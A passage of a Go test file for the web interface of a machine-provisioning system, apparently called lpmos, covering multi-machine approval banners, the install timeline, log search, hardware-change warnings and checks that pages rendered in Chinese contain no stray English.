		ids := s.addAlike(3)
		barred := s.tasks[ids[1]]
		barred.ApprovalNeeds = &lpmos.ApprovalNeeds{Approvers: 2}
		barred.Approvals = []lpmos.Consent{{By: "chen.yu", PlanDigest: barred.Plan.Digest, HardwareDigest: barred.Plan.HardwareDigest}}
		s.tasks[ids[1]] = barred
		h := signedIn(newTestWeb(t, s))
		_, body := get(t, h, "/tasks/approve?more=7&ids="+strings.Join(append(ids, idFailed, "ffffffff-0000-4000-8000-000000000000"), ","))
		above := func(body string) string {
			_, body, _ = strings.Cut(body, "<div class=\"banner\">")
			body, _, _ = strings.Cut(body, "<form method=\"post\" action=\"/tasks/approve\"")
			return body
		}
		first := above(body)
		for _, want := range []string{"7 more machines are not on this page", "3 machines are left out", "You approved it already", "it is failed", "There is no such task."} {
			if !strings.Contains(first, want) {
				t.Errorf("the page does not say %q", want)
			}
		}
		for range 2 { // also from the page that is shown again
			form := carried(body)
			form["id"] = []string{ids[0], ids[2]}
			form.Set("count", "5")
			res, next := post(t, h, "/tasks/approve", form)
			body = next
			checkMarkup(t, body)
			if again := above(body); res.StatusCode != 400 || again != first {
				t.Errorf("= %d; at first the page says %q before its groups, and then %q", res.StatusCode, first, again)
			}
			if n := strings.Count(body, `<input type="checkbox" name="id"`); n != 3 {
				t.Errorf("%d machines can be chosen; want 3", n)
			}
		}
	})
	t.Run("names who was quicker", func(t *testing.T) {
		s, send, form, ids := open(t)
		if _, err := s.Decide(t.Context(), ids[0], api.Decision{Approved: true, PlanDigest: s.tasks[ids[0]].Plan.Digest}, "wang.min"); err != nil {
			t.Fatal(err)
		}
		form.Set("count", "2")
		code, body := send(form)
		if code != 200 || !strings.Contains(body, "wang.min approved it at") {
			t.Errorf("= %d", code)
		}
	})
}

func TestTimeline(t *testing.T) {
	s := newSite(t, testNow)
	events := s.events[idInstalling]
	events[0].At, events[1].At = testNow.Add(-3*time.Hour), testNow.Add(-2*time.Hour-55*time.Minute)
	events[2].At = events[1].At.Add(2*time.Hour + 5*time.Minute)
	events[3].At = testNow.Add(-70 * time.Second)
	s.events[idInstalling] = events
	log := func(ago time.Duration, stage string) string {
		return "time=" + testNow.Add(-ago).Format("2006-01-02T15:04:05.000Z07:00") + ` level=INFO msg="stage begins" stage=` + stage + " percent=0"
	}
	s.logs[idInstalling] = []string{log(2*time.Hour, "installing"), log(65*time.Second, "partitioning"), log(56*time.Second, "downloading"), "words of a machine", `time=2026-11-23T14:31:39Z level=WARN msg="chunk 81 differs"`}
	_, body := get(t, signedIn(newTestWeb(t, s)), "/tasks/"+idInstalling)
	plain := html.UnescapeString(body)
	for _, want := range []string{"2\u00a0h\u00a05\u00a0min later", "data-long", "Stage <bdi>1</bdi> of 4, <bdi>partitioning</bdi>, began.", "Stage <bdi>2</bdi> of 4", "Stage <bdi>2</bdi> of 4, <bdi>downloading</bdi>, goes on.", "<strong>1 partitioning</strong><span data-part=\"note\">9\u00a0s</span>", "54\u00a0s so far", "Usual for this model: <bdi>6\u00a0min</bdi> in all; this run is faster than <bdi>58\u00a0%</bdi> of <bdi>41</bdi>.", ">5\u00a0min</task-figure> <small>until", `data-level="warn"`} {
		if !strings.Contains(plain, want) {
			t.Errorf("the page does not say %q", want)
		}
	}
	if strings.Contains(plain, "Stage <bdi>3</bdi>") {
		t.Error("a stage of an earlier attempt, by a wrong clock, is in the timeline")
	}
}

func TestLogSearch(t *testing.T) {
	s := newSite(t, testNow)
	for i := range 700 {
		s.logs[idInstalling] = append(s.logs[idInstalling], fmt.Sprintf("2026-11-23T14:31:07Z chunk %d written", i))
	}
	h := signedIn(newTestWeb(t, s))
	_, body := get(t, h, "/tasks/"+idInstalling)
	if strings.Contains(body, "chunk 499 written") || !strings.Contains(body, "chunk 699 written") || !strings.Contains(body, "the last 200 of 700 lines") {
		t.Error("the page does not show the last 200 lines")
	}
	_, body = get(t, h, "/tasks/"+idInstalling+"?log=CHUNK+42")
	if !strings.Contains(body, "chunk 42 written") || !strings.Contains(body, "chunk 429 written") || strings.Contains(body, "chunk 43 written") || !strings.Contains(body, "11 of 700 lines") {
		t.Error("the search does not find the lines of all of the log")
	}
	if _, body = get(t, h, "/tasks/"+idInstalling+"?log="+url.QueryEscape(hostile)); !strings.Contains(body, "No line has") {
		t.Error("a search without an answer does not say so")
	}
	checkMarkup(t, body)
}

func TestHardwareDifferences(t *testing.T) {
	s := newSite(t, testNow)
	task := s.tasks[idBlank]
	was := *task.Hardware
	was.BIOS.Version, was.Disks = "2.1.0", slices.Clone(was.Disks[:2])
	was.Disks = append(was.Disks, lpmos.Disk{Device: "/dev/sdx", SizeBytes: 480 * gb, Model: "Intel S4520", Serial: "PHYGONE", Transport: "sata"})
	task.Previous = &lpmos.Sighting{At: testNow.Add(-90 * 24 * time.Hour), RegionID: "bj-1", TaskID: idCompleted, Hardware: &was}
	s.tasks[idBlank] = task
	h := signedIn(newTestWeb(t, s))
	_, body := get(t, h, "/tasks/"+idBlank)
	plain := html.UnescapeString(body)
	for _, want := range []string{"3 differences to when it was last seen", "25 Aug 2026", "Firmware version", "2.1.0", "2.4.4", "Disk PHYGONE", "480 GB Intel S4520", "Disk Y3A0A02KTJX8", ">new</span>", "/tasks/" + idCompleted} {
		if !strings.Contains(plain, want) {
			t.Errorf("the page does not say %q", want)
		}
	}
	checkMarkup(t, body)
	if _, body := get(t, h, "/tasks/"+idBlank+"/approve"); !strings.Contains(body, "3 things about this machine are not as they were last seen.") {
		t.Error("who approves is not told")
	}
}

// No page says a sentence in English: what people and machines of the site wrote
// is named here.
func TestChinesePages(t *testing.T) {
	s := newSite(t, testNow)
	s.addAlike(2)
	s.audit = append(s.audit, lpmos.AuditEntry{Seq: 1, At: testNow, By: "control plane", Via: "host cp-1", Action: "token.create", Subject: "token ci of anna"})
	h := inChinese(signedIn(newTestWeb(t, s)))
	wrote := []string{"by serial number", "chunk", "/etc/", "Replace the disk", "refused a write", "Time, monitoring and keys", "Ask the DBA team", ">lpmos ", ">write /dev/"}
	english := regexp.MustCompile(`>[^<]*\b(?:the|is|are|was|of|and|or|to|by|at|not|no|machine|disk|token|host|region|user|control)\b [^<]*<`)
	for _, path := range []string{
		"/dashboard", "/tasks", "/tasks?q=colour:red", "/tasks?q=host:nowhere", "/machines", "/machines?q=nothing", "/machines/" + s.tasks[idData].TargetMAC.String(), "/machines/02:00:00:00:00:01",
		"/regions", "/images", "/profiles", "/profiles/db", "/templates", "/templates/base", "/stop", "/policy", "/account", "/users", "/tokens", "/audit", "/no/such/page",
		"/tasks/create", "/tasks/create?mode=many", "/tasks/approve", "/tasks/" + idPending, "/tasks/" + idInstalling, "/tasks/" + idFailed, "/tasks/" + idCompleted, "/tasks/" + idRejected, "/tasks/" + idData,
		"/tasks/" + idData + "/approve", "/tasks/" + idProblem + "/approve",
	} {
		_, body := get(t, h, path)
		for _, m := range english.FindAllString(html.UnescapeString(body[strings.Index(body, "<main"):]), -1) {
			if !slices.ContainsFunc(wrote, func(w string) bool { return strings.Contains(m, w) }) {
				t.Errorf("%s says in English: %s", path, m)
			}
		}
	}
	if _, body := get(t, h, "/images"); !strings.Contains(body, "已安装的系统未在 10\u00a0分钟内回报；其控制台显示：error: shim_lock missing") {
		t.Error("/images does not say in Chinese why an image did not boot, with what the console said as it is")
	}
}
